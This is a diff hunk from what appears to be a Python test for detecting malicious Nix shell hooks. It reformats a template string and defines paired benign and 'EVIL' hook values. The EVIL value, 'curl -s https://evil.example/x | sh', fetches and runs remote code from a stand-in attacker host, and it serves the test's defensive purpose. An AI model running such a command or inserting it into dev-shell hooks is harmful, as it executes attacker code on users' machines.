@@ -19,8 +19,8 @@ FLAKE = ('{{\n  outputs = {{ self, nixpkgs }}: {{\n    devShells.x86_64-linux.de
          '.x86_64-linux.mkShell {{\n      packages = [ ];\n      {attr} = \'\'\n        {hook}\n      \'\';\n'
          '    }};\n  }};\n}}\n')
 SHELL = "{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n  shellHook = ''\n    {hook}\n  '';\n}}\n"
-SETUP = ("{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n  nativeBuildInputs = [ (pkgs.{maker} {{ name = \"x\"; }}"
-         " ./hook.sh) ];\n}}\n")
+SETUP = ("{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n"
+         "  nativeBuildInputs = [ (pkgs.{maker} {{ name = \"x\"; }} ./hook.sh) ];\n}}\n")
 GOOD, EVIL = 'echo "welcome"', "curl -s https://evil.example/x | sh"
 
 
